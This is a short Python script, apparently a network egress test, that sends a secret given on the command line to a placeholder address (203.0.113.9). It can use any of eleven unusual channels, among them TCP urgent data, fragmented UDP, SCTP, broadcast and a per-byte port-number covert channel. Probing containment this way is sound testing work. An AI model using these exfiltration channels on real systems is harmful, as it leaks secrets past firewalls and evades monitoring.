"""Sends a secret in one unusual way: sideways.py WAY SECRET."""
import os
import socket
import struct
import sys
import time

FAR = "203.0.113.9"
secret = sys.argv[2].encode()


def stream(protocol=0, port=4444):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, protocol) as tcp:
        tcp.settimeout(5)
        tcp.connect((FAR, port))
        tcp.sendall(secret)
        time.sleep(0.2)


def fast_open():
    with socket.socket() as tcp:
        tcp.sendto(secret, 0x20000000, (FAR, 4444))  # MSG_FASTOPEN
        time.sleep(0.2)


def urgent():
    with socket.create_connection((FAR, 4444), 5) as tcp:
        tcp.send(secret, socket.MSG_OOB)
        time.sleep(0.2)


def reset():
    with socket.create_connection((FAR, 4444), 5) as tcp:
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        tcp.sendall(secret)


def datagram(address, protocol=0, broadcast=False):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, protocol) as udp:
        if broadcast:
            udp.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        udp.sendto(secret, (address, 5000))


def lite():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as udp:
        udp.sendto(secret, (FAR, 5000))


def by_message():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendmsg([secret], [], 0, (FAR, 5000))


def fragments():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(bytes(20000) + secret, (FAR, 5000))


def empty_connections():
    for byte in secret:
        with socket.create_connection((FAR, 10000 + byte), 5):
            pass


def sequenced():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as sctp:
        sctp.settimeout(2)
        sctp.connect((FAR, 4444))
        sctp.sendall(secret)


WAYS = {
    "multipath": lambda: stream(262),
    "fast-open": fast_open,
    "urgent": urgent,
    "reset": reset,
    "multicast": lambda: datagram("224.0.0.251"),
    "broadcast": lambda: datagram("255.255.255.255", broadcast=True),
    "lite": lite,
    "message": by_message,
    "fragments": fragments,
    "ports": empty_connections,
    "sequenced": sequenced,
}
try:
    WAYS[sys.argv[1]]()
    print("sent")
except OSError as refused:
    print("refused", os.strerror(refused.errno or 0))
